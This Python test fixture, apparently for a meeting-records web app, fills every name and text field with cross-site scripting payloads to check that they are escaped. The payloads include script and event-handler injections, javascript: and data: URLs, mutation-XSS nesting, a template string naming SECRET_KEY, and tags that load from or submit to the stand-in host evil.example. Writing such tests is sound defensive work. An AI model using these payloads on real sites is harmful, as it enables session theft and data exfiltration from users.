"""Twenty-five classes of strings that try to run a script, and a world in which all names are such.

Each sets `window.__xss` or opens a dialog where it is obeyed.
"""

import itertools

from gtm.models import Agency, Letterhead, Territory, WorkingGroup
from meetings.life import publishing, verbs
from meetings.models import PublicVersion, SharedLink
from meetings.text import document as doc
from tests.access import convening, sharing, world
from tests.factories import make_document, with_rows

RUN = "window.__xss=1"
STRINGS = {
    "script": f"<script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "svg": f"<svg onload={RUN}>",
    "double quote": f'" autofocus onfocus={RUN} x="',
    "single quote": f"' autofocus onfocus={RUN} x='",
    "no quote": f"x onmouseover={RUN} autofocus onfocus={RUN}",
    "textarea": f"</textarea><script>{RUN}</script>",
    "title": f"</title><img src=x onerror={RUN}>",
    "script end": f"</script><script>{RUN}</script>",
    "comment": f"--><img src=x onerror={RUN}><!--",
    "style": f"</style><svg onload={RUN}>",
    "style attribute": '<p style="background:url(//evil.example/x)">',
    "javascript link": f"<a href=javascript:{RUN}>lien</a>",
    "javascript address": f"javascript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "frame": f'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><svg onload={RUN}>',
    "object": "<object data=//evil.example/x></object><embed src=//evil.example/y>",
    "base": "<base href=//evil.example/><a href=x>lien</a>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "form": "<form action=//evil.example><input autofocus name=x></form>",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;svg onload={RUN}&#62;",
    "mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "templates": "{{ settings.SECRET_KEY }} {% debug %} ${window.__xss=1} #{x}",
    "odd letters": f"＜script＞{RUN}＜/script＞ +ADw-script+AD4- \u202e\u2028<svg/onload={RUN}>",
}
# Where each is obeyed: pages that put a string where it must not stand. Elsewhere the body is one.
# Of the odd letters Chromium obeys the last tag only: full-width brackets and UTF-7 are text to it.
BODY = "<p>{}</p><img src=photo.jpg>"  # an address of the page's own, that `base` turns elsewhere
SINKS = {
    "double quote": '<input value="{}">',
    "single quote": "<input value='{}'>",
    "no quote": "<input value={}>",
    "textarea": "<textarea>{}</textarea>",
    "title": "<title>{}</title>",
    "script end": "<script>const said = '{}'</script>",
    "comment": "<!-- {} -->",
    "style": "<style>{}</style>",
    "javascript address": '<iframe src="{}"></iframe>',
    "data address": '<iframe src="{}"></iframe>',
    "entities": "<p id=a>{}</p><p id=b></p><script>b.innerHTML = a.textContent</script>",
    # Read a second time, what was text becomes a tag: sanitizers were fooled so.
    "mutation": "<p id=b></p><script>onload = () => b.innerHTML = a.innerHTML</script><div id=a>{}",
    "templates": "<script>const said = `{}`</script>",
}
SHORT = f"<svg onload={RUN}>"
LINES = "\n".join(STRINGS.values())
KEPT = {"kind", "date", "modality", "territory", "start", "end", "next_date", "agenda_adoption"}
KEPT |= {"attendance_total", "attendance_women", "role", "quality", "presence", "persons"}
KEPT |= doc.FLAGS
_next = itertools.cycle(STRINGS.values())


def text(limit):
    """All strings where they fit, else the next one that does."""
    everything = " ".join(STRINGS.values())
    if len(everything) <= limit:
        return everything
    fitting = (each for each in itertools.islice(_next, len(STRINGS)) if len(each) <= limit)
    return next(fitting, SHORT[:limit])


def document(photo, file, words=text):
    """The text of a meeting; what `words` makes for its limit stands in every field for words."""
    made = make_document(photos=[str(photo)], files=[str(file)])
    point = made["points"][0]
    for section in ("roles", *(f"points/{point}/{child}" for child in doc.CHILDREN["points"])):
        made, _ = with_rows(made, section, {})
    rows = {doc.list_section(key): uids for key, uids in made.items() if isinstance(uids, list)}
    for section, uids in rows.items():
        for uid in uids:
            for name, field in doc.ROWS[section].items():
                made[doc.key_of(section, uid, name)] = _cell(name, field, words)
    made[f"points/{point}/postponed"] = ""
    return made | {name: words(each.limit) for name, each in doc.HEADER.items() if name not in KEPT}


def _cell(name, field, words):
    if name in KEPT:
        return field.choices[0][0] if field.choices else "1"
    return words(field.limit)


def build(state, words=text, lines=LINES, short=SHORT):
    """A world in `draft` or `published` whose persons, groups, structures and files have such
    names: `words` makes one for a number of signs."""
    made = world.build("draft")
    for user in filter(None, made.persons.values()):
        user.name = words(150)
        user.save()
    sheet = {"name": words(250), "category": words(80), "remark": words(5000), "aliases": lines}
    for agency in Agency.objects.all():
        acronym = f"{short}{agency.pk}"
        Agency.objects.filter(pk=agency.pk).update(acronym=acronym, phone=short, **sheet)
    for number, group in enumerate(WorkingGroup.objects.all()):
        WorkingGroup.objects.filter(pk=group.pk).update(
            name=f"{words(70)}{number}", responsible_heading=words(80)
        )
    head = {"country": words(80), "motto": words(120), "ministry": words(200), "lines": lines}
    Letterhead.objects.update(style="administrative", place=words(80), **head)
    Territory.objects.update(name=words(100), variants=lines)
    for stored in (made.photo, made.file):
        type(stored).objects.filter(pk=stored.pk).update(name=f"{words(190)}.jpg")
    world.save(made, made.persons["secretary"], document(made.photo.pk, made.file.pk, words))
    world.park(made)
    if state == "published":
        made.meeting.refresh_from_db()
        verbs.submit(made.meeting, made.persons["secretary"], world.HELD_ON)
        publishing.publish(made.meeting, made.persons["reviewer"], world.HELD_ON)
        convening.send_out(made, made.persons["secretary"])
        sharing.share(made, made.persons["secretary"])
        shown = {"title": words(290), "document": made.lent.publication.document}
        PublicVersion.objects.update(**shown)
        SharedLink.objects.update(whom=words(140))
    made.meeting.refresh_from_db()
    made.point = made.meeting.document["points"][0]
    return made
